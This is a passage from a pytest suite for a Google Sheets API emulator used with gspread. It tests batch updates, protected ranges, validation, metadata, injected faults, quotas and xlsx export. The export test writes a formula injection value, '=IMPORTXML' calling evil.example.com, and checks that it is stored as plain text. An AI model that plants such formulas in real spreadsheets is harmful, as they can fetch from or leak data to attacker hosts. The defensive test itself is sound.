            sh.batch_update(body)
        assert err.value.code == 400
    with pytest.raises(APIError) as err:
        sh.values_batch_update({"valueInputOption": "RAW", "data": ["not an object"]})
    assert err.value.code == 400


def test_insert_and_delete_dimension_shift_cells_and_ranges(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet, ws: gspread.Worksheet
) -> None:
    ws.update([["h1", "h2"], ["a", 1], ["b", 2]], "A1")
    ws.add_protected_range("A3:B3", warning_only=True)
    ws.add_validation("B2:B3", ValidationConditionType.number_greater, [0])
    batch(
        sh,
        {
            "insertDimension": {
                "range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 2},
                "inheritFromBefore": False,
            }
        },
    )
    assert emu.get_values(sid, MASTER) == [["h1", "h2"], [], ["a", 1], ["b", 2]]
    assert emu.protected_ranges(sid, MASTER)[0]["range"] == {
        "sheetId": 0,
        "startRowIndex": 3,
        "endRowIndex": 4,
        "startColumnIndex": 0,
        "endColumnIndex": 2,
    }
    # New rows inherit from the row after them (validation too), as inheritFromBefore=False says.
    assert [v["range"]["startRowIndex"] for v in emu.data_validations(sid, MASTER)] == [1]
    assert emu.data_validations(sid, MASTER)[0]["range"]["endRowIndex"] == 4
    assert emu.sheet_properties(sid, MASTER)["gridProperties"]["rowCount"] == 1001
    batch(
        sh,
        {
            "insertDimension": {
                "range": {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 0, "endIndex": 1}
            }
        },
    )
    assert emu.get_values(sid, MASTER)[0] == ["", "h1", "h2"]
    batch(
        sh,
        {
            "deleteDimension": {
                "range": {"sheetId": 0, "dimension": "COLUMNS", "startIndex": 0, "endIndex": 1}
            }
        },
        {
            "deleteDimension": {
                "range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 3}
            }
        },
    )
    assert emu.get_values(sid, MASTER) == [["h1", "h2"], ["b", 2]]
    assert emu.protected_ranges(sid, MASTER)[0]["range"]["startRowIndex"] == 1
    batch(sh, {"appendDimension": {"sheetId": 0, "dimension": "ROWS", "length": 10}})
    assert emu.sheet_properties(sid, MASTER)["gridProperties"]["rowCount"] == 1009
    with pytest.raises(APIError, match="delete all the rows"):
        batch(
            sh,
            {
                "deleteDimension": {
                    "range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 0, "endIndex": 1009}
                }
            },
        )


def test_deleting_a_protected_row_drops_the_protection(
    emu: SheetsEmulator, sid: str, ws: gspread.Worksheet
) -> None:
    ws.add_protected_range("A2:B2", warning_only=True)
    ws.delete_rows(2)
    assert emu.protected_ranges(sid, MASTER) == []


def test_repeat_cell_validation_protection_and_conditional_format(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet, ws: gspread.Worksheet
) -> None:
    reply = batch(
        sh,
        {
            "repeatCell": {
                "range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1},
                "cell": {"userEnteredFormat": {"textFormat": {"bold": True}}},
                "fields": "userEnteredFormat(textFormat)",
            }
        },
        {
            "setDataValidation": {
                "range": {
                    "sheetId": 0,
                    "startRowIndex": 1,
                    "startColumnIndex": 6,
                    "endColumnIndex": 7,
                },
                "rule": {"condition": {"type": "BOOLEAN"}},
            }
        },
        {
            "addProtectedRange": {
                "protectedRange": {
                    "range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1},
                    "description": "見出し",
                    "warningOnly": True,
                }
            }
        },
        {
            "addConditionalFormatRule": {
                "index": 0,
                "rule": {
                    "ranges": [
                        {
                            "sheetId": 0,
                            "startRowIndex": 1,
                            "startColumnIndex": 2,
                            "endColumnIndex": 3,
                        }
                    ],
                    "booleanRule": {
                        "condition": {"type": "NUMBER_LESS", "values": [{"userEnteredValue": "5"}]},
                        "format": {"backgroundColor": {"red": 1}},
                    },
                },
            }
        },
        {
            "createDeveloperMetadata": {
                "developerMetadata": {
                    "metadataKey": "sync_rev",
                    "metadataValue": "1",
                    "location": {"spreadsheet": True},
                    "visibility": "DOCUMENT",
                }
            }
        },
        {
            "createDeveloperMetadata": {
                "developerMetadata": {
                    "metadataKey": "tab",
                    "metadataValue": "master",
                    "location": {"sheetId": 0},
                    "visibility": "PROJECT",
                }
            }
        },
    )
    replies = reply["replies"]
    assert replies[:2] == [{}, {}]
    pr = replies[2]["addProtectedRange"]["protectedRange"]
    assert isinstance(pr["protectedRangeId"], int) and pr["description"] == "見出し"
    assert replies[3] == {}
    md = replies[4]["createDeveloperMetadata"]["developerMetadata"]
    assert md["location"] == {"locationType": "SPREADSHEET", "spreadsheet": True}
    assert emu.cell_format(sid, MASTER, "Z1") == {"textFormat": {"bold": True}}
    assert emu.data_validations(sid, MASTER) == [
        {
            "range": {
                "sheetId": 0,
                "startRowIndex": 1,
                "endRowIndex": 1000,
                "startColumnIndex": 6,
                "endColumnIndex": 7,
            },
            "rule": {"condition": {"type": "BOOLEAN"}},
        }
    ]
    assert emu.protected_ranges(sid, MASTER) == [pr]
    assert (
        emu.conditional_formats(sid, MASTER)[0]["booleanRule"]["condition"]["type"] == "NUMBER_LESS"
    )
    meta = sh.fetch_sheet_metadata()
    assert meta["developerMetadata"][0]["metadataKey"] == "sync_rev"
    master = meta["sheets"][0]
    assert master["protectedRanges"] == [pr]
    assert len(master["conditionalFormats"]) == 1
    assert master["developerMetadata"][0]["metadataKey"] == "tab"
    assert "protectedRanges" not in meta["sheets"][1]
    # A rule-less setDataValidation clears; checkbox cells read back as booleans.
    batch(
        sh,
        {
            "setDataValidation": {
                "range": {
                    "sheetId": 0,
                    "startRowIndex": 500,
                    "startColumnIndex": 6,
                    "endColumnIndex": 7,
                }
            }
        },
    )
    assert emu.data_validations(sid, MASTER)[0]["range"]["endRowIndex"] == 500
    ws.update([[True]], "G2")
    assert ws.get("G2") == [["TRUE"]]
    assert ws.get("G2", value_render_option=ValueRenderOption.unformatted) == [[True]]


def test_gspread_add_protected_range_and_add_validation(
    emu: SheetsEmulator, sid: str, ws: gspread.Worksheet
) -> None:
    reply = ws.add_protected_range("A1:Z1", description="header", warning_only=True)
    pid = reply["replies"][0]["addProtectedRange"]["protectedRange"]["protectedRangeId"]
    strict = ws.add_protected_range(
        "A2:A2", editor_users_emails=["bot@example.iam.gserviceaccount.com"]
    )
    assert emu.protected_ranges(sid, MASTER)[1]["editors"]["users"] == [
        "bot@example.iam.gserviceaccount.com"
    ]
    assert "editors" not in emu.protected_ranges(sid, MASTER)[0]
    ws.delete_protected_range(pid)
    assert [p["protectedRangeId"] for p in emu.protected_ranges(sid, MASTER)] == [
        strict["replies"][0]["addProtectedRange"]["protectedRange"]["protectedRangeId"]
    ]
    ws.add_validation(
        "H2:H",
        ValidationConditionType.one_of_list,
        ["入荷", "返品"],
        showCustomUi=True,
        strict=True,
    )
    (rule,) = emu.data_validations(sid, MASTER)
    assert rule["range"] == {
        "sheetId": 0,
        "startRowIndex": 1,
        "endRowIndex": 1000,
        "startColumnIndex": 7,
        "endColumnIndex": 8,
    }
    assert rule["rule"]["condition"]["values"] == [
        {"userEnteredValue": "入荷"},
        {"userEnteredValue": "返品"},
    ]


def test_developer_metadata_update_and_delete(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet
) -> None:
    batch(
        sh,
        {
            "createDeveloperMetadata": {
                "developerMetadata": {
                    "metadataKey": "sync_rev",
                    "metadataValue": "1",
                    "location": {"spreadsheet": True},
                }
            }
        },
    )
    lookup = {"developerMetadataLookup": {"metadataKey": "sync_rev", "metadataValue": "1"}}
    reply = batch(
        sh,
        {
            "updateDeveloperMetadata": {
                "dataFilters": [lookup],
                "developerMetadata": {"metadataValue": "2"},
                "fields": "metadataValue",
            }
        },
    )
    assert (
        reply["replies"][0]["updateDeveloperMetadata"]["developerMetadata"][0]["metadataValue"]
        == "2"
    )
    stale = batch(
        sh,
        {
            "updateDeveloperMetadata": {
                "dataFilters": [lookup],
                "developerMetadata": {"metadataValue": "3"},
                "fields": "metadataValue",
            }
        },
    )
    assert stale["replies"][0]["updateDeveloperMetadata"]["developerMetadata"] == []
    batch(
        sh,
        {
            "deleteDeveloperMetadata": {
                "dataFilter": {"developerMetadataLookup": {"metadataKey": "sync_rev"}}
            }
        },
    )
    assert emu.developer_metadata(sid) == []


def test_strict_metadata_filters_turn_a_miss_into_a_failed_batch() -> None:
    emu = SheetsEmulator(strict_metadata_filters=True)
    sid = emu.create_spreadsheet()
    sh = emu.client().open_by_key(sid)
    batch(
        sh,
        {
            "createDeveloperMetadata": {
                "developerMetadata": {
                    "metadataKey": "rev",
                    "metadataValue": "1",
                    "location": {"spreadsheet": True},
                }
            }
        },
    )
    with pytest.raises(APIError):
        batch(
            sh,
            {
                "updateCells": {
                    "start": {"sheetId": 0},
                    "rows": [{"values": [{"userEnteredValue": {"stringValue": "x"}}]}],
                    "fields": "userEnteredValue",
                }
            },
            {
                "updateDeveloperMetadata": {
                    "dataFilters": [
                        {"developerMetadataLookup": {"metadataKey": "rev", "metadataValue": "0"}}
                    ],
                    "developerMetadata": {"metadataValue": "2"},
                    "fields": "metadataValue",
                }
            },
        )
    assert emu.get_values(sid, "Sheet1") == []


def test_sort_range_request(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet, ws: gspread.Worksheet
) -> None:
    ws.update([["sku", "stock"], ["b", 2], ["a", ""], ["c", 1]], "A1")
    ws.sort((2, "des"), range="A2:B4")
    assert emu.get_values(sid, MASTER) == [["sku", "stock"], ["b", 2], ["c", 1], ["a"]]


# --------------------------------------------------------------------------- faults and hooks


def test_fail_next_429_then_success(emu: SheetsEmulator, sid: str, ws: gspread.Worksheet) -> None:
    emu.fail_next(429)
    with pytest.raises(APIError) as err:
        ws.get("A1")
    assert err.value.code == 429
    assert err.value.error["status"] == "RESOURCE_EXHAUSTED"
    assert err.value.error["message"].startswith(
        "Quota exceeded for quota metric 'Read requests' and limit 'Read requests per minute per user' of service 'sheets.googleapis.com'"
    )
    assert ws.get("A1") == [[]]


def test_fail_next_5xx_by_kind_and_times(
    emu: SheetsEmulator, sid: str, ws: gspread.Worksheet
) -> None:
    emu.fail_next(503, times=2, kind="write")
    emu.fail_next(500)
    with pytest.raises(APIError) as err:  # the 500 is for any kind: this read takes it
        ws.get("A1")
    assert (err.value.code, err.value.error["status"]) == (500, "INTERNAL")
    for _ in range(2):
        with pytest.raises(APIError) as err:
            ws.update([["x"]], "A1")
        assert (err.value.code, err.value.error["status"]) == (503, "UNAVAILABLE")
        assert ws.get("A1") == [[]]  # reads pass, nothing was applied
    ws.update([["x"]], "A1")
    assert emu.get_values(sid, MASTER) == [["x"]]
    assert [r.status for r in emu.requests[-6:]] == [500, 503, 200, 503, 200, 200]
    with pytest.raises(ValueError):
        emu.fail_next(418)


def test_timeout_after_apply(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet, ws: gspread.Worksheet
) -> None:
    emu.timeout_after_apply_next()
    ws.get("A1")  # reads are not affected
    with pytest.raises(requests.exceptions.ReadTimeout):
        batch(
            sh,
            {
                "appendCells": {
                    "sheetId": 0,
                    "rows": [{"values": [{"userEnteredValue": {"stringValue": "once"}}]}],
                    "fields": "userEnteredValue",
                }
            },
        )
    assert emu.get_values(sid, MASTER) == [["once"]]
    ws.update([["next"]], "B1")  # one-shot
    assert emu.get_values(sid, MASTER) == [["once", "next"]]


def test_staff_edit_between_read_and_commit(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet, ws: gspread.Worksheet
) -> None:
    emu.set_values(sid, MASTER, "A1", [["商品コード", "在庫数"], ["A", 10], ["B", 5]])
    snapshot = ws.get("A1:B3", value_render_option=ValueRenderOption.unformatted)
    emu.before_next(lambda: emu.sort_rows(sid, MASTER, "A", descending=True), kind="write")
    emu.before_next(lambda: emu.set_values(sid, MASTER, "B2", [[7]]), nth=2)
    assert ws.get("B2") == [["10"]]
    assert ws.get("B2") == [["7"]]  # staff typed 7 just before the second request
    # The bot computed from its snapshot (A at row 2) but staff sorted just before the commit.
    stock = snapshot[1][1]
    assert isinstance(stock, int)
    ws.update([[stock - 1]], "B2")
    assert emu.get_values(sid, MASTER) == [["商品コード", "在庫数"], ["B", 9], ["A", 7]]


def test_on_request_sees_every_call_and_can_unsubscribe(
    emu: SheetsEmulator, sid: str, ws: gspread.Worksheet
) -> None:
    seen: list[tuple[str, str]] = []
    stop = emu.on_request(lambda rec: seen.append((rec.op, rec.kind)))
    ws.update([["x"]], "A1")
    ws.get("A1")
    stop()
    ws.get("A1")
    assert seen == [("values.update", "write"), ("values.get", "read")]


def test_request_log_and_counts(emu: SheetsEmulator, sid: str) -> None:
    sh = emu.client().open_by_key(sid)
    ws = sh.worksheet(MASTER)
    emu.reset_counts()
    ws.batch_get(["A1:B2", "C:C"])
    ws.update([["x"]], "A1")
    ws.append_rows([["y"]])
    batch(
        sh,
        {"addSheet": {"properties": {"title": "x"}}},
        {"repeatCell": {"range": {"sheetId": 0}, "cell": {}, "fields": "userEnteredFormat"}},
    )
    assert emu.counts() == {"read": 1, "write": 3}
    ops = [(r.method, r.op, r.kind) for r in emu.requests]
    assert ops == [
        ("GET", "values.batchGet", "read"),
        ("PUT", "values.update", "write"),
        ("POST", "values.append", "write"),
        ("POST", "spreadsheets.batchUpdate", "write"),
    ]
    assert emu.requests[0].ranges == (f"'{MASTER}'!A1:B2", f"'{MASTER}'!C:C")
    assert emu.requests[1].ranges == (f"'{MASTER}'!A1",)
    assert emu.requests[3].request_types == ("addSheet", "repeatCell")
    assert emu.requests[1].path.endswith(
        "/values/%27%E5%95%86%E5%93%81%E3%83%9E%E3%82%B9%E3%82%BF%27%21A1"
    )
    emu.set_values(sid, MASTER, "A1", [["staff"]])  # direct helpers are not counted
    emu.reset_counts()
    assert emu.counts() == {"read": 0, "write": 0}


def test_quota_per_rolling_minute() -> None:
    clock = VirtualClock()
    emu = SheetsEmulator(quota_per_minute=60, clock=clock)
    sid = emu.create_spreadsheet()
    sh = emu.client().open_by_key(sid)  # read 1
    ws = sh.sheet1  # read 2
    for _ in range(58):
        ws.get("A1")
    with pytest.raises(APIError) as err:
        ws.get("A1")
    assert err.value.code == 429 and "'Read requests'" in err.value.error["message"]
    ws.update([["writes have their own bucket"]], "A1")
    clock.advance(59)
    with pytest.raises(APIError):
        ws.get("A1")
    clock.advance(1.5)
    assert ws.get("A1") == [["writes have their own bucket"]]


def test_ten_thousand_rows_in_one_batch_get() -> None:
    emu = SheetsEmulator()
    sid = emu.create_spreadsheet("big", [MASTER, "設定"], rows=10_001, cols=6)
    emu.set_values(sid, MASTER, "A1", [["商品コード", "商品名", "在庫数", "連動"]])
    emu.set_values(
        sid,
        MASTER,
        "A2",
        [[f"SKU-{i:05d}", f"商品{i}", i % 40, True] for i in range(10_000)],
        raw=True,
    )
    sh = emu.client().open_by_key(sid)
    emu.reset_counts()
    reply = sh.values_batch_get(
        [f"'{MASTER}'", "'設定'"], params={"valueRenderOption": "UNFORMATTED_VALUE"}
    )
    master, settings = reply["valueRanges"]
    assert master["range"] == f"'{MASTER}'!A1:F10001"
    assert len(master["values"]) == 10_001
    assert master["values"][-1] == ["SKU-09999", "商品9999", 9999 % 40, True]
    assert "values" not in settings
    assert emu.counts() == {"read": 1, "write": 0}


# --------------------------------------------------------------------------- staff helpers and export


def test_staff_helpers(emu: SheetsEmulator, sid: str) -> None:
    emu.set_values(sid, MASTER, "A1", [["sku", "stock"], ["b", 2], ["a", 1], ["c", 3]])
    emu.insert_rows(sid, MASTER, 1, [["new", 9]])
    assert emu.get_values(sid, MASTER) == [
        ["sku", "stock"],
        ["new", 9],
        ["b", 2],
        ["a", 1],
        ["c", 3],
    ]
    emu.sort_rows(sid, MASTER, "A")
    assert [r[0] for r in emu.get_values(sid, MASTER)] == ["sku", "a", "b", "c", "new"]
    emu.sort_rows(sid, MASTER, 1, descending=True)
    assert [r[1] for r in emu.get_values(sid, MASTER)] == ["stock", 9, 3, 2, 1]
    emu.delete_rows(sid, MASTER, 1, 3)
    assert emu.get_values(sid, MASTER) == [["sku", "stock"], ["b", 2], ["a", 1]]
    emu.set_values(sid, MASTER, "C1", [["=1+1", "00123"]], raw=True)
    assert emu.get_values(sid, MASTER, render="FORMATTED_VALUE")[0] == [
        "sku",
        "stock",
        "=1+1",
        "00123",
    ]
    assert emu.get_values(sid, MASTER)[1] == ["b", 2]
    with pytest.raises(KeyError):
        emu.get_values(sid, "nope")
    with pytest.raises(ValueError):
        emu.delete_rows(sid, MASTER, 0, 1000)


def test_threads_share_one_emulator(emu: SheetsEmulator, sid: str) -> None:
    errors: list[BaseException] = []

    def work(col: str) -> None:
        try:
            ws = emu.client().open_by_key(sid).worksheet(LOG)
            for i in range(20):
                ws.update([[i]], f"{col}{i + 1}")
        except BaseException as err:  # pragma: no cover - reported below
            errors.append(err)

    threads = [threading.Thread(target=work, args=(c,)) for c in "ABCD"]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert not errors
    assert emu.get_values(sid, LOG)[19] == [19, 19, 19, 19]


def test_export_xlsx(
    emu: SheetsEmulator, sid: str, sh: gspread.Spreadsheet, tmp_path: Path
) -> None:
    ws = sh.worksheet(MASTER)
    ws.update(
        [
            ["商品コード", "商品名", "在庫数"],
            ["00123", '=IMPORTXML("http://evil.example.com","//a")', 5],
        ],
        "A1",
    )
    ws.update([["=C2*2"]], "D2", raw=False)
    ws.format("A1:C1", {"textFormat": {"bold": True}})
    ws.freeze(rows=1)
    sh.worksheet("_state").hide()
    path = export_xlsx(emu, sid, tmp_path / "out.xlsx")
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == [MASTER, LOG, "_state"]
    assert wb["_state"].sheet_state == "hidden"
    master = wb[MASTER]
    assert master["A2"].value == "00123"
    assert master["B2"].value.startswith("=IMPORTXML") and master["B2"].data_type == "s"
    assert master["D2"].data_type == "f"
    assert master["A1"].font.bold is True
    assert master.freeze_panes == "A2"
